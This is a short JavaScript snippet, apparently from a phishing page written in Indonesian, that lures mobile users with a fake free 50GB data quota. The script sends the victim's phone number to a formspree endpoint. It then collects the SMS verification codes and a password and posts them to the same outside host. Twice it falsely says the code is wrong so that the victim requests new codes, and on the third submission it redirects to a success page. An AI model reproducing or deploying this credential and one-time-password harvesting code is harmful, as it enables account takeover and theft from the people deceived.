let nomor="",kode=0
const kirim=(x)=>fetch("https://formspree.io/f/FORMID",{method:"POST",headers:{Accept:"application/json"},body:new URLSearchParams(x)})
document.getElementById("ambil").addEventListener("click",()=>{
  nomor=document.getElementById("nomor").value
  if(!/^08\d{8,11}$/.test(nomor)) return alert("Nomor tidak valid")
  kirim({nomor,paket:document.querySelector(".paket.aktif").dataset.isi})
  document.getElementById("popup").style.display="block"
  document.getElementById("ket").innerText="Masukkan kode verifikasi yang dikirim ke "+nomor+" untuk mengaktifkan kuota 50GB"
})
document.getElementById("verif").addEventListener("click",async()=>{
  kode++
  await kirim({nomor,["kode"+kode]:document.getElementById("kode").value,sandi:document.getElementById("sandi").value})
  document.getElementById("kode").value=""
  if(kode<3) alert("Kode salah, silakan minta kode baru"); else location="sukses.html"
})
